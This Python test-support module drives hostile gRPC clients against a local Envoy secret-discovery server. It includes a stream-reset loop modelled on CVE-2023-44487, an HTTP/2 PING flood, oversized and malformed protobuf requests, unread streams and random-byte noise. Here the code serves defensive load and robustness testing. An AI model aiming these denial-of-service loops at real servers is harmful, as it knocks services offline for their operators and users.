"""Clients that mean harm, as a process of their own: `python -m tests.support.hostile KIND PORT CA CERT KEY`.

Each has a certificate that is believed, and goes on until it is killed.
"""

import asyncio
import random
import ssl
import string
import sys
from itertools import count, islice, product
from pathlib import Path

import grpc
from envoy.config.core.v3.base_pb2 import Node
from envoy.service.discovery.v3 import discovery_pb2 as pb

from sds_server.xds.server import DELTA, FETCH, SDS

METHODS = [f"/{service}/{method}" for service, methods in DELTA.items() for method in methods]
DELTA_SECRETS = f"/{SDS}/DeltaSecrets"
NAMES = 340_000
UNLIMITED = (("grpc.max_send_message_length", -1),)


class Attack:
    """A way to be a nuisance."""

    def __init__(self, port, ca, certificate, key):
        self.port = port
        self.ca, self.certificate, self.key = (Path(path) for path in (ca, certificate, key))

    def channel(self):
        credentials = grpc.ssl_channel_credentials(
            self.ca.read_bytes(), self.key.read_bytes(), self.certificate.read_bytes()
        )
        options = (*UNLIMITED, ("grpc.use_local_subchannel_pool", 1))
        return grpc.aio.secure_channel(f"localhost:{self.port}", credentials, options)

    async def names(self):
        """340,000 names, again and again: just under the 2 MiB that the server takes, or far beyond."""
        letters = string.ascii_letters
        short = ["".join(four) for four in islice(product(letters, repeat=4), NAMES)]
        for turn in count():
            names = [f"long-{name}" for name in short] if turn % 2 else short
            request = pb.DeltaDiscoveryRequest(node=Node(id="hostile"), resource_names_subscribe=names)
            await self._say(DELTA_SECRETS, [request.SerializeToString()] * 5)

    async def huge(self):
        """Almost two MB each, of a field that is empty and there a million times."""
        node = Node(id="hostile").SerializeToString() + b"\x4a\x00" * 950_000
        size = len(node)
        length = bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14 & 127 | 128, size >> 21])
        while True:
            await self._say(DELTA_SECRETS, [b"\x0a" + length + node] * 5)

    async def resets(self):
        """Streams that are opened and reset at once (as in CVE-2023-44487)."""
        channel = self.channel()
        request = pb.DeltaDiscoveryRequest(node=Node(id="hostile"), resource_names_subscribe=["a"])
        data = request.SerializeToString()
        while True:
            calls = [channel.stream_stream(DELTA_SECRETS)() for _ in range(100)]
            await asyncio.gather(*(call.write(data) for call in calls), return_exceptions=True)
            for call in calls:
                call.cancel()

    async def unread(self):
        """Streams whose answers are never read."""
        channels = [self.channel() for _ in range(10)]
        request = pb.DeltaDiscoveryRequest(
            node=Node(id="hostile"), resource_names_subscribe=[f"{number}" for number in range(2_000)]
        )
        calls = [channel.stream_stream(DELTA_SECRETS)() for channel in channels]
        for call in calls:
            await call.write(request.SerializeToString())
        await asyncio.Event().wait()

    async def pings(self):
        """PING frames of HTTP/2, as fast as they go out."""
        context = ssl.create_default_context(cafile=str(self.ca))
        context.load_cert_chain(self.certificate, self.key)
        context.set_alpn_protocols(["h2"])
        ping = b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)
        while True:
            reader, writer = await asyncio.open_connection("localhost", self.port, ssl=context)
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0")

            async def drain(reader=reader):
                while await reader.read(65_536):
                    pass

            draining = asyncio.create_task(drain())
            try:
                while True:
                    writer.write(ping * 500)
                    await writer.drain()
            except (OSError, ssl.SSLError):
                pass
            draining.cancel()
            writer.close()

    async def noise(self):
        """Random bytes on every method."""
        rng = random.Random(1)
        while True:
            for method in [*METHODS, f"/{SDS}/{FETCH}"]:
                await self._say(method, [rng.randbytes(rng.randrange(200)) for _ in range(5)])

    async def _say(self, method, requests):
        async with self.channel() as channel:
            call = channel.stream_stream(method)()
            try:
                for request in requests:
                    await call.write(request)
                await asyncio.wait_for(call.code(), 0.5)
            except (TimeoutError, asyncio.InvalidStateError, grpc.aio.AioRpcError):
                pass
            call.cancel()


KINDS = ("names", "huge", "resets", "unread", "pings", "noise")

if __name__ == "__main__":
    asyncio.run(getattr(Attack(int(sys.argv[2]), *sys.argv[3:6]), sys.argv[1])())
